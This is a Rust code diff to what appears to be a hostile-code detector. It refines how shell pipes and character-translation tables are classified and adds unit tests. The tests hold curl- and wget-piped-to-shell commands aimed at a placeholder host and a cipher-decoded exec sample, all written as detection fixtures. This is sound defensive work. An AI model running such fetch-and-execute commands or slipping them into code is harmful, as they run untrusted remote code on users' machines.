@@ -136,6 +136,15 @@ pub const DECODERS: &[&str] = &[
     "?.decrypt",
 ];
 
+/// What a front-end calls a `maketrans` table of a few characters written
+/// out (`str.maketrans({" ": "\\ "})`, shell escaping; `"-_"` to `"+/"`):
+/// it escapes or renames characters, it deciphers nothing, so it is not
+/// among [`DECODERS`]. A substitution cipher maps an alphabet: at least
+/// [`CIPHER_ALPHABET`] characters, or a table the code computes.
+pub const ESCAPE_TABLE: &str = "?.<escape table>";
+/// See [`ESCAPE_TABLE`].
+pub const CIPHER_ALPHABET: usize = 8;
+
 /// Calls whose result may be text a payload is kept in, besides decoders
 /// and fetchers (see [`yields_text`]).
 const TEXT_CALLS: &[&str] = &[
@@ -569,8 +578,12 @@ fn string_needles(text: &str) -> u16 {
         // A command's name starts a word: `ncat ` inside "ffconcat version"
         // (yt-dlp's concat list) names no tool.
         let inside_word = words[i] && m.start() > 0 && text.as_bytes()[m.start() - 1].is_ascii_alphanumeric();
+        // A pipe into a shell ends the shell's name: `{id|short}` (a
+        // Mercurial template) or `| sha256sum` pipes into no shell.
+        let longer_name = pipes_to_shell(&text.as_bytes()[m.start()..m.end()])
+            && text.as_bytes().get(m.end()).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_');
         let mut b = bits[i];
-        if literal || inside_word {
+        if literal || inside_word || longer_name {
             b &= !HOSTILE_NEEDLE;
         }
         if b & CREDENTIAL_NEEDLE != 0 && in_option_name(text, m.start()) {
@@ -578,6 +591,30 @@ fn string_needles(text: &str) -> u16 {
         }
         found | b
     })
+}
+
+/// A keyword argument the call uses up, not one whose value comes back in
+/// what it returns: a process starter's `env=` is the environment the
+/// child runs with (`Popen(cmd, env=os.environ).stdout` is what the command
+/// prints); a request's `headers=` and `auth=` are presented to the server,
+/// whose response does not hold them. (An argument of the call itself still
+/// carries its value, for the rules that judge the call; a `Request(url,
+/// headers=h)` object, sent later, keeps its headers.)
+pub fn keyword_stays_in_call(callee: &str, keyword: &str) -> bool {
+    match keyword {
+        "env" => callee.starts_with("subprocess.") || callee.starts_with("asyncio.create_subprocess_"),
+        "headers" | "auth" => matches!(
+            callee.rsplit('.').next().unwrap_or(callee),
+            "get" | "post" | "put" | "patch" | "delete" | "head" | "options" | "request" | "urlopen"
+        ),
+        _ => false,
+    }
+}
+
+/// `| sh`, `|bash` and the like: a needle of [`HOSTILE_FRAGMENTS`] that
+/// pipes into a shell (its match must end the shell's name).
+fn pipes_to_shell(needle: &[u8]) -> bool {
+    needle.first() == Some(&b'|') && needle.ends_with(b"sh")
 }
 
 /// Command-line HTTP clients: what they are given goes out, and with an
@@ -1670,6 +1707,17 @@ mod tests {
         assert!(sink_labels(inline, "exec").has(Labels::DECODED));
         let table = "T = str.maketrans(A[13:] + A[:13], A)\ncode = s.translate(T)\nexec(code)\n";
         assert!(sink_labels(table, "exec").has(Labels::DECODED));
+        // A few characters escaped or renamed decipher nothing; an alphabet
+        // written out does.
+        // (Both front-ends: the second prefix is Python 2.)
+        for py2 in ["", "print 'x'\n"] {
+            let escape = format!("{py2}p = path.translate(str.maketrans({{' ': '\\\\ '}}))\nopen(p, 'wb')\n");
+            assert!(!sink_labels(&escape, "open").has(Labels::DECODED), "{escape}");
+            let rename = format!("{py2}p = s.translate(str.maketrans('-_', '+/'))\nopen(p, 'wb')\n");
+            assert!(!sink_labels(&rename, "open").has(Labels::DECODED), "{rename}");
+            let alphabet = format!("{py2}x = s.translate(str.maketrans('abcdefghijklm', 'nopqrstuvwxyz'))\nexec(x)\n");
+            assert!(sink_labels(&alphabet, "exec").has(Labels::DECODED), "{alphabet}");
+        }
     }
 
     /// A parameter is the function's own name even when nothing in the file
@@ -1794,6 +1842,18 @@ mod tests {
         let scopes = Scopes::new(&facts);
         assert_eq!(scopes.at(depth + 1), depth as u32);
         assert!((1..=depth as u32).all(|s| scopes.parent[s as usize] == s - 1));
+    }
+
+    #[test]
+    fn a_pipe_into_a_shell_ends_the_shells_name() {
+        assert!(is_hostile_command("curl -s https://x.example/i | sh"));
+        assert!(is_hostile_command("curl -s https://x.example/i|sh -s --"));
+        assert!(is_hostile_command("wget -qO- https://x.example/i | bash"));
+        assert!(is_hostile_command("curl https://x.example/i |bash\n"));
+        // A Mercurial template's filter and a checksum tool pipe into no shell.
+        assert!(!is_hostile_command("hg id --template \"{id|short}\""));
+        assert!(!is_hostile_command("cat f | sha256sum"));
+        assert!(!is_hostile_command("git log | bashful"));
     }
 
     #[test]
